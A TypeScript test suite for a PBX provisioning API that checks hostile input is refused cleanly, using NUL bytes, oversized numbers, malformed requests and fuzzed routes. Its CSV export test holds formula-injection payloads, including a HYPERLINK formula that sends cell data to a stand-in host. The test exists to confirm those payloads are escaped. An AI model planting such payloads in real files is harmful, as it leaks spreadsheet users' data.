import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { request as httpRequest } from 'node:http';
import { connect } from 'node:net';
import Fastify from 'fastify';
import { sql } from 'kysely';
import { startTestServer, type TestServer } from '../support/http.ts';
import { storeKinds } from '../support/stores.ts';
import { errorHandler } from '../../src/shared/http-errors.ts';
import { smtpMailer } from '../../src/modules/auth/mailer.ts';
import { startSmtpSink, type SmtpSink } from '../support/smtp.ts';
import { seedTenant, type Tenant } from '../support/tenants.ts';
import { failInterruptedImports } from '../../src/modules/imports/service.ts';
import { startServer } from '../../src/server.ts';
import { loadConfig } from '../../src/config.ts';
import { migrate, openDatabase } from '../../src/db/database.ts';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Json = any;

/** Every error answer: a 4xx with {error, message, fields: [{field, reason}]}; `field` (when given) is named. */
function assertError(r: { status: number; body: Json; text: string }, status: number | number[], field?: string) {
  const ok = Array.isArray(status) ? status : [status];
  assert.ok(ok.includes(r.status), `expected ${ok.join('/')}, got ${r.status}: ${r.text}`);
  assert.equal(typeof r.body?.error, 'string', r.text);
  assert.equal(typeof r.body.message, 'string', r.text);
  assert.ok(Array.isArray(r.body.fields), r.text);
  for (const f of r.body.fields) {
    assert.equal(typeof f.field, 'string', r.text);
    assert.equal(typeof f.reason, 'string', r.text);
  }
  assert.deepEqual(Object.keys(r.body).sort(), ['error', 'fields', 'message'], r.text);
  if (field !== undefined) assert.ok(r.body.fields.some((f: { field: string }) => f.field === field), `expected field ${field}: ${r.text}`);
}

/** A raw HTTP request (for bodies fetch will not send: truncated multipart, odd content types). */
function raw(baseUrl: string, method: string, path: string, headers: Record<string, string>, body: Buffer | string): Promise<{ status: number; body: Json; text: string }> {
  const url = new URL(path, baseUrl);
  return new Promise((resolve, reject) => {
    const req = httpRequest({ host: url.hostname, port: url.port, method, path: url.pathname + url.search, headers }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => {
        const text = Buffer.concat(chunks).toString('utf8');
        let parsed: Json;
        try {
          parsed = JSON.parse(text);
        } catch {
          parsed = undefined;
        }
        resolve({ status: res.statusCode ?? 0, body: parsed, text });
      });
    });
    req.on('error', reject);
    req.end(body);
  });
}

/** Bytes straight onto a socket: requests no HTTP client would send. */
function rawSocket(baseUrl: string, request: string): Promise<{ head: string; body: string }> {
  const url = new URL(baseUrl);
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    const sock = connect(Number(url.port), url.hostname, () => sock.end(Buffer.from(request, 'latin1')));
    sock.on('data', (c: Buffer) => chunks.push(c));
    sock.on('error', reject);
    sock.on('close', () => {
      const text = Buffer.concat(chunks).toString('utf8');
      const i = text.indexOf('\r\n\r\n');
      resolve({ head: text.slice(0, i), body: text.slice(i + 4) });
    });
  });
}

for (const { kind, skip } of await storeKinds()) {
  describe(`hostile input on ${kind}: a 4xx in one shape, never a 500`, { skip }, () => {
    let s: TestServer;
    const logs: Array<{ level: number; msg?: string }> = [];
    let officeId: string;
    const errorLines = () => logs.filter((l) => l.level >= 50);

    before(async () => {
      s = await startTestServer(kind, {
        logLevel: 'info',
        logStream: { write: (line: string) => void logs.push(JSON.parse(line)) },
      });
      assert.equal((await s.api('POST', '/api/v1/accounts', { code: 'acme', name: 'Acme', sipRealm: 'acme.pbx.example', country: 'AU' })).status, 201);
      const o = await s.api('POST', '/api/v1/accounts/acme/offices', { name: 'Sydney', timezone: 'Australia/Sydney' });
      assert.equal(o.status, 201, o.text);
      officeId = o.body.id;
    });
    after(() => s?.close());

    test('offset out of range, negative or not a whole number is a 400 naming offset on every list', async () => {
      const lists = [
        '/api/v1/accounts',
        '/api/v1/accounts/acme/offices',
        '/api/v1/accounts/acme/users',
        '/api/v1/accounts/acme/numbers',
        '/api/v1/accounts/acme/pickup-groups',
        '/api/v1/accounts/acme/ring-groups',
        '/api/v1/accounts/acme/config/versions',
        '/api/v1/accounts/acme/api-keys',
        '/api/v1/accounts/acme/devices',
        '/api/v1/accounts/acme/provisioning/refusals',
      ];
      for (const path of lists) {
        assert.equal((await s.api('GET', `${path}?offset=0`)).status, 200, path);
        for (const offset of ['99999999999999999999', '1e300', '9007199254740993', '100001', '-1', '1.5', 'abc']) {
          assertError(await s.api('GET', `${path}?offset=${offset}`), 400, 'offset');
        }
      }
      assert.deepEqual(errorLines(), []);
    });

    test('integer path parameters are bounded: a huge or odd version number is 400/404', async () => {
      for (const n of ['1e300', '99999999999999999999', '2147483648', '0', '-1', 'abc', '1.5']) {
        assertError(await s.api('GET', `/api/v1/accounts/acme/config/versions/${n}`), [400, 404]);
      }
      assertError(await s.api('GET', '/api/v1/accounts/acme/config/versions/2147483647'), 404);
      assert.deepEqual(errorLines(), []);
    });

    test('a truncated multipart upload is a 400', async () => {
      const boundary = '----sbboundary';
      const body = `--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="users.csv"\r\ncontent-type: text/csv\r\n\r\nfirst_name,last_name\r\nAda,Lovelace\r\n`;
      const r = await raw(s.baseUrl, 'POST', '/api/v1/accounts/acme/imports?dryRun=true', { authorization: `Bearer ${s.providerKey}`, 'content-type': `multipart/form-data; boundary=${boundary}`, 'content-length': String(Buffer.byteLength(body)) }, body);
      assertError(r, 400, 'file');
      const noFile = `--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="users.csv"\r\ncontent-type: text/csv\r\n\r\nfirst_name\r\nAda\u0000\r\n--${boundary}--\r\n`;
      const nul = await raw(s.baseUrl, 'POST', '/api/v1/accounts/acme/imports?dryRun=true', { authorization: `Bearer ${s.providerKey}`, 'content-type': `multipart/form-data; boundary=${boundary}` }, noFile);
      assertError(nul, 400, 'file');
      assert.deepEqual(errorLines(), []);
    });

    test('NUL and control characters in bodies, queries and paths are a 400 naming the field', async () => {
      const before = await s.api('GET', '/api/v1/accounts/acme/offices');
      assertError(await s.api('POST', '/api/v1/accounts/acme/offices', { name: 'Perth\u0000', timezone: 'Australia/Perth' }), 400, 'name');
      assertError(await s.api('POST', '/api/v1/accounts/acme/offices', { name: 'Perth\u0007', timezone: 'Australia/Perth' }), 400, 'name');
      assertError(await s.api('POST', '/api/v1/accounts/acme/users', { firstName: 'Ada', officeId, voicemail: { pin: '12\u000034' } }), 400, 'voicemail.pin');
      assertError(await s.api('PUT', `/api/v1/accounts/acme/users/${officeId}/offices`, { officeIds: ['x', 'y\u0000'] }), 400, 'officeIds.1');
      assertError(await s.api('GET', '/api/v1/accounts/acme/offices?name=%00'), 400, 'name');
      assertError(await s.api('GET', '/api/v1/accounts/acme/users?q=a%00b'), 400, 'q');
      assertError(await s.api('GET', '/api/v1/accounts/acme%00/users'), 400, 'account');
      assertError(await s.api('GET', `/api/v1/accounts/acme/offices/${officeId}%00`), 400, 'officeId');
      assertError(await s.api('GET', '/api/v1/audit?account=acme%00'), 400, 'account');
      assertError(await raw(s.baseUrl, 'POST', '/api/v1/accounts/acme/imports?dryRun=true', { authorization: `Bearer ${s.providerKey}`, 'content-type': 'text/csv' }, 'first_name\nAda\u0000\n'), 400, 'body');
      assert.deepEqual((await s.api('GET', '/api/v1/accounts/acme/offices')).body, before.body, 'nothing written');
      // the one multi-line exception: tab and line breaks in a JSON body are not refused by the guard
      const tab = await s.api('POST', '/api/v1/accounts/acme/offices', { name: 'Tab\tOffice', timezone: 'Australia/Perth' });
      assert.notEqual(tab.status, 500, tab.text);
      assert.deepEqual(errorLines(), []);
    });

    test('unauthenticated login and /prov with NUL in credentials: 400/401, no error log', async () => {
      for (const body of [
        { account: 'acme\u0000', email: 'a@acme.example', password: 'x' },
        { account: 'acme', email: 'a\u0000@acme.example', password: 'x' },
        { account: 'acme', email: 'a@acme.example', password: 'x\u0000' },
      ]) {
        assertError(await s.api('POST', '/api/v1/auth/login', body, {}), [400, 401]);
      }
      const prov = await s.api('GET', '/api/v1/accounts/acme/provisioning');
      assert.equal(prov.status, 200, prov.text);
      for (const [user, pass] of [['prov\u0000x', 'y'], [prov.body.username, `${prov.body.password}\u0000`], ['\u0000', '\u0000']]) {
        const r = await fetch(`${s.baseUrl}/prov/805ec0123456.cfg`, { headers: { authorization: `Basic ${Buffer.from(`${user}:${pass}`).toString('base64')}` } });
        assert.ok([400, 401].includes(r.status), `prov basic: ${r.status}`);
      }
      const tok = await fetch(`${s.baseUrl}/prov/abc%00def/805ec0123456.cfg`);
      assert.ok([400, 404].includes(tok.status), `prov token: ${tok.status}`);
      assert.deepEqual(errorLines(), []);
    });

    test('router and body-parser errors answer in the same shape', async () => {
      assertError(await s.api('GET', '/api/v1/accounts/acme/offices/%ZZ'), 400, 'path');
      // over-long path segment: 414 from the router, or 404 when the built portal's wildcard route takes the path
      const long = await s.api('GET', `/api/v1/accounts/acme/users/${'x'.repeat(300)}`);
      assertError(long, [414, 404], long.status === 414 ? 'path' : undefined);
      const auth = { authorization: `Bearer ${s.providerKey}` };
      assertError(await raw(s.baseUrl, 'POST', '/api/v1/accounts/acme/offices', { ...auth, 'content-type': 'application/xml' }, '<office/>'), 415, 'content-type');
      assertError(await raw(s.baseUrl, 'POST', '/api/v1/accounts/acme/offices', { ...auth, 'content-type': 'application/json' }, '{"name": "Perth",'), 400, 'body');
      assertError(await raw(s.baseUrl, 'POST', '/api/v1/accounts/acme/offices', { ...auth, 'content-type': 'application/json' }, ''), 400, 'body');
      const big = JSON.stringify({ name: 'x'.repeat(2 * 1024 * 1024), timezone: 'Australia/Perth' });
      assertError(await raw(s.baseUrl, 'POST', '/api/v1/accounts/acme/offices', { ...auth, 'content-type': 'application/json' }, big), 413, 'body');
      assertError(await s.api('GET', '/api/v1/no-such-thing'), 404);
      // refused by Node's HTTP parser (NUL in a credential header) before Fastify sees it
      for (const header of ['Authorization: Bearer sbp_a\u0000b', 'Cookie: sb_session=a\u0000b']) {
        const answer = await rawSocket(s.baseUrl, `GET /api/v1/accounts HTTP/1.1\r\nHost: x\r\n${header}\r\n\r\n`);
        assert.match(answer.head, /^HTTP\/1\.1 400 /, header);
        assertError({ status: 400, body: JSON.parse(answer.body), text: answer.body }, 400, 'request');
      }
      assert.deepEqual(errorLines(), []);
    });

    test('a PostgreSQL data exception that slips past the schemas is a 400, logged below error level', { skip: kind !== 'postgres' && 'PostgreSQL only' }, async () => {
      const app = Fastify({ logger: false });
      app.setErrorHandler(errorHandler);
      app.get<{ Querystring: { v: string; t: string } }>('/probe', async (req) => {
        if (req.query.t === 'int') await sql`select ${req.query.v}::int`.execute(s.store.database.db);
        else await sql`select ${req.query.v}::text`.execute(s.store.database.db);
        return { ok: true };
      });
      try {
        for (const [t, v] of [
          ['int', '1e300'],
          ['int', '99999999999'],
          ['text', 'a\u0000b'],
        ]) {
          const r = await app.inject({ method: 'GET', url: '/probe', query: { t: t!, v: v! } });
          assertError({ status: r.statusCode, body: r.json(), text: r.body }, 400);
        }
      } finally {
        await app.close();
      }
    });

    test('write bodies are taken as sent: null or a wrong type is a 400, nothing changed', async () => {
      const u = await s.api('POST', '/api/v1/accounts/acme/users', { firstName: 'Nora', lastName: 'Null', officeId, email: 'nora@acme.example' });
      assert.equal(u.status, 201, u.text);
      const path = `/api/v1/accounts/acme/users/${u.body.id}`;
      const subscribers = async () => (await s.store.database.db.selectFrom('sip_subscribers').select('username').where('username', '=', u.body.sipUsername).execute()).length;
      assert.equal(await subscribers(), 1);
      const before = (await s.api('GET', path)).body;

      assertError(await s.api('PATCH', path, { enabled: null }), 400, 'enabled');
      assertError(await s.api('PATCH', path, { enabled: 'false' }), 400, 'enabled');
      assertError(await s.api('PATCH', path, { enabled: 0 }), 400, 'enabled');
      assertError(await s.api('PATCH', path, { firstName: 42 }), 400, 'firstName');
      assertError(await s.api('PATCH', path, { ringTime: '40' }), 400, 'ringTime');
      assertError(await s.api('PATCH', path, { voicemail: { enabled: null } }), 400, 'voicemail.enabled');
      assertError(await s.api('POST', '/api/v1/accounts/acme/users', { firstName: 42, officeId }), 400, 'firstName');
      assertError(await s.api('POST', '/api/v1/accounts/acme/users', { firstName: 'X', officeId: [officeId] }), 400, 'officeId');
      const after = (await s.api('GET', path)).body;
      assert.deepEqual(after, before, 'the user is unchanged');
      assert.equal(after.enabled, true);
      assert.equal(await subscribers(), 1, 'SIP credentials not withdrawn');

      const prov = (await s.api('GET', '/api/v1/accounts/acme/provisioning')).body;
      assertError(await s.api('PATCH', '/api/v1/accounts/acme/provisioning', { macLock: null }), 400, 'macLock');
      assert.deepEqual((await s.api('GET', '/api/v1/accounts/acme/provisioning')).body.macLock, prov.macLock);

      // null where the schema says "clear this field" still clears it
      const cleared = await s.api('PATCH', path, { email: null });
      assert.equal(cleared.status, 200, cleared.text);
      assert.equal(cleared.body.email, null);
      // and query strings are still read from text
      const listed = await s.api('GET', '/api/v1/accounts/acme/users?limit=1&includeTotal=true');
      assert.equal(listed.status, 200, listed.text);
      assert.equal(listed.body.items.length, 1);
    });

    test('CSV exports escape cells a spreadsheet would run as a formula; the export audit entry keeps includeSecrets', async () => {
      const evil = ['=HYPERLINK("http://x.example/?"&A1)', '+SUM(1)', '-2+3', '@cmd'];
      const made = await s.api('POST', '/api/v1/accounts/acme/users', { firstName: evil[0], lastName: evil[1], department: evil[2], officeId });
      assert.equal(made.status, 201, made.text);
      const exp = await s.api('GET', '/api/v1/accounts/acme/users/export.csv');
      assert.equal(exp.status, 200, exp.text);
      const cells = exp.text.split(/[\n,]/).map((c) => c.replace(/^"|"$/g, '').replace(/""/g, '"'));
      for (const v of evil.slice(0, 3)) {
        assert.ok(cells.includes(`'${v}`), `${v} escaped in ${exp.text}`);
        assert.ok(!cells.includes(v), `${v} raw in the export`);
      }
      const imp = await raw(s.baseUrl, 'POST', '/api/v1/accounts/acme/imports?wait=true', { authorization: `Bearer ${s.providerKey}`, 'content-type': 'text/csv' }, `first_name,last_name,office\n@cmd,+SUM(1),Sydney\n`);
      assert.equal(imp.status, 201, imp.text);
      const result = await s.api('GET', `/api/v1/accounts/acme/imports/${imp.body.id}/result.csv`);
      assert.equal(result.status, 200, result.text);
      assert.match(result.text, /,'@cmd,'\+SUM\(1\),/);
      assert.doesNotMatch(result.text, /,@cmd,/);
      // what our export escaped reads back as written
      const users = (await s.api('GET', '/api/v1/accounts/acme/users?limit=500')).body.items as Array<{ firstName: string; lastName: string }>;
      assert.ok(users.some((u) => u.firstName === '@cmd' && u.lastName === '+SUM(1)'), 'imported names unescaped');
      // the audit entry records whether secrets were exported (a flag, not a secret)
      assert.equal((await s.api('GET', '/api/v1/accounts/acme/users/export.csv?includeSecrets=true')).status, 200);
      const audit = await s.api('GET', '/api/v1/accounts/acme/audit?limit=50');
      const exports = (audit.body.items as Array<{ resource: string; action: string; after: { includeSecrets?: unknown } }>).filter((e) => e.resource === 'users' && e.action === 'exported');
      assert.deepEqual(exports.map((e) => e.after.includeSecrets).sort(), [false, true]);
      const reimport = await raw(s.baseUrl, 'POST', '/api/v1/accounts/acme/imports?dryRun=true&update=true', { authorization: `Bearer ${s.providerKey}`, 'content-type': 'text/csv' }, exp.text);
      assert.equal(reimport.status, 200, reimport.text);
    });

    test('the API docs (Swagger UI) cannot be framed or sniffed and carry a CSP', async () => {
      for (const path of ['/api/docs/', '/api/docs/static/swagger-ui.css', '/api/docs/static/swagger-initializer.js']) {
        const r = await fetch(s.baseUrl + path);
        assert.equal(r.status, 200, path);
        await r.arrayBuffer();
        const csp = r.headers.get('content-security-policy') ?? '';
        assert.match(csp, /default-src 'self'/, path);
        assert.match(csp, /frame-ancestors 'none'/, path);
        assert.match(csp, /object-src 'none'/, path);
        assert.doesNotMatch(csp, /upgrade-insecure-requests/, path);
        assert.equal(r.headers.get('x-frame-options'), 'DENY', path);
        assert.equal(r.headers.get('x-content-type-options'), 'nosniff', path);
      }
    });

    test('no request above left an error-level log line', () => {
      assert.deepEqual(errorLines(), []);
      assert.ok(logs.length > 0, 'the log was captured');
    });
  });
}

for (const { kind, skip } of await storeKinds()) {
  describe(`set-password links with HOST=0.0.0.0 and no PORTAL_URL (${kind})`, { skip }, () => {
    let s: TestServer;
    let sink: SmtpSink;
    let t: Tenant;
    const logs: Array<{ level: number; msg?: string; err?: { message?: string } }> = [];

    before(async () => {
      sink = await startSmtpSink();
      s = await startTestServer(kind, {
        logLevel: 'info',
        logStream: { write: (line: string) => void logs.push(JSON.parse(line)) },
        // what server.ts derives from HOST=0.0.0.0 PORT=8080 when PORTAL_URL is unset
        auth: { mailer: smtpMailer({ host: '127.0.0.1', port: sink.port, from: 'pbx@switchboard.test' }), portalUrl: 'http://0.0.0.0:8080' },
      });
      t = await seedTenant(s, 'acme', { login: false });
    });
    after(async () => {
      await s?.close();
      await sink?.close();
    });

    const tokens = async () => (await s.store.database.db.selectFrom('password_tokens').select('id').execute()).length;

    test('send-credentials is refused with an error naming PORTAL_URL; no link is mailed', async () => {
      const before = await tokens();
      const r = await s.api('POST', `/api/v1/accounts/acme/users/${t.people.basic!.id}/send-credentials`);
      assert.equal(r.status, 503, r.text);
      assert.equal(r.body.error, 'portal_url_unusable');
      assert.match(r.body.message, /PORTAL_URL/);
      assert.deepEqual(r.body.fields.map((f: { field: string }) => f.field), ['PORTAL_URL']);
      assert.equal(await tokens(), before, 'no token issued');
    });

    test('a password reset still answers 202 but mails nothing and logs why', async () => {
      const r = await s.api('POST', '/api/v1/auth/password-reset', { account: 'acme', email: t.people.basic!.email }, {});
      assert.equal(r.status, 202, r.text);
      await new Promise((res) => setTimeout(res, 200));
      assert.equal(sink.messages.length, 0);
      assert.ok(logs.some((l) => /PORTAL_URL/.test(l.err?.message ?? '')), 'the operator is told to set PORTAL_URL');
    });
  });
}

const job = (id: string, accountId: string, status: string) => ({
  id,
  account_id: accountId,
  status,
  update_existing: 0,
  total: 3,
  processed: 1,
  created_count: 0,
  updated_count: 0,
  errors: '[]',
  result_csv: null,
  created_by: 'provider',
  created_at: new Date().toISOString(),
  finished_at: null,
});

for (const { kind, skip } of await storeKinds()) {
  describe(`import jobs a stopped process left unfinished (${kind})`, { skip }, () => {
    let s: TestServer;
    before(async () => {
      s = await startTestServer(kind);
    });
    after(() => s?.close());

    test('are marked failed, with the reason, when the server starts; finished jobs are left alone', async () => {
      const acct = await s.api('POST', '/api/v1/accounts', { code: 'imp', name: 'Imp', sipRealm: 'imp.pbx.example', country: 'AU' });
      assert.equal(acct.status, 201, acct.text);
      const db = s.store.database.db;
      const ids = { queued: '00000000-0000-4000-8000-0000000000a1', validating: '00000000-0000-4000-8000-0000000000a2', loading: '00000000-0000-4000-8000-0000000000a3', done: '00000000-0000-4000-8000-0000000000a4' };
      for (const [status, id] of Object.entries(ids)) await db.insertInto('imports').values(job(id, acct.body.id, status)).execute();
      // seconds old: the read-time 15-minute staleness rule does not cover them yet
      assert.equal((await s.api('GET', `/api/v1/accounts/imp/imports/${ids.loading}`)).body.status, 'loading');

      assert.equal(await failInterruptedImports(s.deps), 3);
      for (const status of ['queued', 'validating', 'loading'] as const) {
        const r = await s.api('GET', `/api/v1/accounts/imp/imports/${ids[status]}`);
        assert.equal(r.body.status, 'failed', status);
        assert.match(r.body.errors[0].reason, /interrupted/);
        assert.ok(r.body.finishedAt, 'finishedAt is set');
      }
      const done = await db.selectFrom('imports').selectAll().where('id', '=', ids.done).executeTakeFirstOrThrow();
      assert.equal(done.status, 'done');
      assert.equal(done.finished_at, null);
      assert.equal(await failInterruptedImports(s.deps), 0, 'nothing left to fail');
    });
  });
}

test('serve marks unfinished import jobs failed before it listens (SQLite file)', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'sb-restart-'));
  try {
    const config = { ...loadConfig({ SWITCHBOARD_DATA_DIR: dir, SWITCHBOARD_DEMO: '0', LOG_LEVEL: 'silent', PORT: '0', SWITCHBOARD_API_KEY: 'sbp_test_restart' }) };
    const database = openDatabase(config.databaseUrl);
    await migrate(database);
    const accountId = '00000000-0000-4000-8000-0000000000b0';
    await database.db
      .insertInto('accounts')
      .values({ id: accountId, code: 'restart', name: 'Restart', sip_realm: 'restart.pbx.example', country: 'AU', extension_length: null, voicemail_retention_days: 90, call_retention_days: 365, max_external_calls: null, recording_retention_days: 90, created_at: new Date().toISOString(), updated_at: new Date().toISOString() })
      .execute();
    await database.db.insertInto('imports').values(job('00000000-0000-4000-8000-0000000000b1', accountId, 'loading')).execute();
    await database.close();

    const server = await startServer(config);
    try {
      const row = await server.database.db.selectFrom('imports').selectAll().where('id', '=', '00000000-0000-4000-8000-0000000000b1').executeTakeFirstOrThrow();
      assert.equal(row.status, 'failed');
      assert.match(row.errors, /interrupted/);
    } finally {
      await server.stop();
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

for (const { kind, skip } of await storeKinds()) {
  describe(`every route in the OpenAPI document under hostile path and query values (${kind})`, { skip }, () => {
    let s: TestServer;
    const errorLog: string[] = [];
    before(async () => {
      s = await startTestServer(kind, { logLevel: 'error', logStream: { write: (line: string) => void errorLog.push(line) } });
    });
    after(() => s?.close());

    test('never a 5xx, every error in the {error, message, fields} shape, nothing logged as an error', async () => {
      const t = await seedTenant(s, 'fz', { login: false });
      const doc = (await s.api('GET', '/api/openapi.json')).body as { paths: Record<string, Record<string, { parameters?: Array<{ in: string; name: string }> }>> };
      const values = ['1e300', '99999999999999999999', '-1', '1.5', '%00', '%ZZ', 'x'.repeat(99), '%C0%80'];
      const valid = (name: string) => (name === 'account' ? 'fz' : name === 'userId' ? t.people.basic!.id : 'none');
      let requests = 0;
      const bad: string[] = [];
      for (const [path, ops] of Object.entries(doc.paths)) {
        const pathParams = [...path.matchAll(/\{(\w+)\}/g)].map((m) => m[1]!);
        for (const [method, op] of Object.entries(ops)) {
          const query = (op.parameters ?? []).filter((p) => p.in === 'query').map((p) => p.name);
          const urls: string[] = [];
          for (const v of values) {
            for (const target of pathParams) urls.push(path.replace(/\{(\w+)\}/g, (_m, name: string) => (name === target ? v : valid(name))));
            const base = path.replace(/\{(\w+)\}/g, (_m, name: string) => valid(name));
            for (const q of query) urls.push(`${base}?${q}=${v}`);
          }
          const bodies = method === 'get' || method === 'delete' ? [undefined] : [undefined, { unknownField: '\u0000' }, { name: null, firstName: 1, enabled: 'x' }];
          for (const url of urls) {
            for (const body of bodies) {
              requests++;
              const r = await s.api(method.toUpperCase(), url, body);
              const shaped = r.status < 400 || (typeof r.body?.error === 'string' && typeof r.body.message === 'string' && Array.isArray(r.body.fields));
              if (r.status >= 500 || !shaped) bad.push(`${method.toUpperCase()} ${url.slice(0, 120)} ${JSON.stringify(body)} → ${r.status} ${r.text.slice(0, 120)}`);
            }
          }
        }
      }
      assert.ok(requests > 500, `walked ${requests} requests`);
      assert.deepEqual(bad, []);
      assert.deepEqual(errorLog, []);
    });
  });
}
